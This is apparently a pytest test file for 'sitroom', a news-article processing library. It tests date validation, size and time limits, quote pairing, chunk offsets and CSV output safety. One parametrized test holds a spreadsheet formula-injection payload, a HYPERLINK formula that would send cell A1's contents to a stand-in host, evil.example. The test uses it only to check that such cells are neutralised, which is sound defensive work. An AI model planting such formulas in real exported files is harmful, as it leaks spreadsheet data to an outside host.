"""Library bounds and validation: process() arguments, characters and time per document,
near-linear helpers (quotation marks, parser pieces), CSV cells."""
from __future__ import annotations

import io
import time

import pytest

import sitroom
from sitroom.annotate import chunks, mask_noise
from sitroom.csvsafe import safe_cell, write_csv
from sitroom.errors import InputError, InvalidArgument, SitroomError
from sitroom.extract.quotes.marks import quote_spans
from sitroom.limits import Limits
from sitroom.pipeline import Pipeline, Stage, check_published
from sitroom.records import Document

TEXT = ("Lithuania's interior minister said on Monday that the border fence would be finished "
        "by spring.\n\n\"We will not be blackmailed,\" she told reporters in Vilnius.\n")


@pytest.mark.parametrize("bad", ["2021-13-45", "yesterday", "\x00", "14/11/2021", "2021-02-30",
                                 12, ["2021-11-14"]])
def test_published_must_be_an_iso_date(bad):
    with pytest.raises(InvalidArgument) as err:
        sitroom.process(TEXT, published=bad)
    assert repr(bad) in str(err.value) and isinstance(err.value, SitroomError)


def test_published_accepts_iso_dates_and_nothing():
    import datetime as dt
    assert check_published("2021-11-14") == "2021-11-14"
    assert check_published("2021-11-14T09:30:00Z") == "2021-11-14T09:30:00Z"
    assert check_published(dt.date(2021, 11, 14)) == "2021-11-14"
    assert check_published("") is None and check_published(None) is None


def test_lone_surrogates_and_wrong_types_are_sitroom_errors():
    with pytest.raises(InputError, match="lone surrogate.*U\\+D800.*character 12"):
        sitroom.process("Poland said \ud800 migrants crossed.")
    with pytest.raises(InvalidArgument, match="text must be a str"):
        sitroom.process(b"bytes are not text")
    with pytest.raises(InvalidArgument, match="title must be a str"):
        sitroom.process(TEXT, title=3)


def test_a_document_over_the_character_bound_fails_with_its_size():
    pl = Pipeline(stages=["clean"], limits=Limits(max_chars=100))
    doc = pl(Document.from_text("Riga. " * 40))
    assert doc.error.startswith("240 characters, more than the 100") and "--max-chars" in doc.error
    with pytest.raises(InputError, match="240 characters"):
        sitroom.process("Riga. " * 40, pipeline=pl)


def test_a_document_over_its_time_budget_fails_and_the_batch_goes_on():
    def slow(doc, res):
        if "slow" in doc.text:
            while True:          # a stage that never ends on this input
                time.sleep(0.01)
        return {}

    pl = Pipeline(stages=["clean"], limits=Limits(time_budget=0.3))
    pl.stages.append(Stage("stuck", ("clean_text",), (), slow))
    t0 = time.monotonic()
    docs = list(pl.pipe([Document.from_text("A slow one."), Document.from_text("A fine one.")]))
    assert time.monotonic() - t0 < 5
    assert "longer than the 0.3 s" in docs[0].error and "stuck" in docs[0].error
    assert docs[1].error is None and docs[1].done == ("clean", "stuck")


def test_quote_storms_pair_as_before():
    assert quote_spans('He said "yes" and "no".') == [(9, 12), (19, 21)]
    assert quote_spans("''wire style'' and ``typeset''") == [(2, 12), (21, 28)]
    assert quote_spans("She called it 'a farce' twice.") == [(15, 22)]
    storm = '". ' * 3000
    spans = quote_spans(storm)
    assert len(spans) == 1500 and all(storm[a:b] == ". " for a, b in spans)


def test_the_parser_sees_pieces_and_masked_noise_with_the_same_offsets():
    text = ("Minsk denied it. " * 400 + "\n\n") * 3 + '"' * 500 + " end"
    masked = mask_noise(text)
    assert len(masked) == len(text) and masked.endswith(" " * 500 + " end")
    parts = chunks(text, 10_000)
    assert "".join(parts) == text and all(len(p) <= 10_000 for p in parts)
    assert all(p.endswith("\n\n") for p in parts[:2])


def test_parsed_pieces_keep_offsets():
    from sitroom.annotate import annotate
    from sitroom.resources import Resources
    text = "\n\n".join(f"Officials in Riga said on day {i} that {i + 2} trucks arrived."
                       for i in range(400))
    doc = Document.from_text(text)
    doc.clean_text = text
    [out] = annotate([doc], Resources())
    assert len(out["nlp"].text) == len(text)
    assert all(text[s.start:s.end].startswith("Officials") for s in out["sentences"])
    assert len(out["sentences"]) == 400
    assert {text[m.span.start:m.span.end] for m in out["mentions"]} >= {"Riga"}


@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                                  "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_csv_cells_that_spreadsheets_would_run_are_neutralised(cell):
    assert safe_cell(cell) == "'" + cell
    out = io.StringIO()
    write_csv([{"title": cell, "n": -3}], ["title", "n"], out)
    import csv
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["title", "n"], ["'" + cell.replace("\r", "\n"), "-3"]]


def test_csv_leaves_ordinary_values_alone():
    assert [safe_cell(v) for v in ("Warsaw", "", None, -4, 2.5, "a=b")] == \
        ["Warsaw", "", None, -4, 2.5, "a=b"]
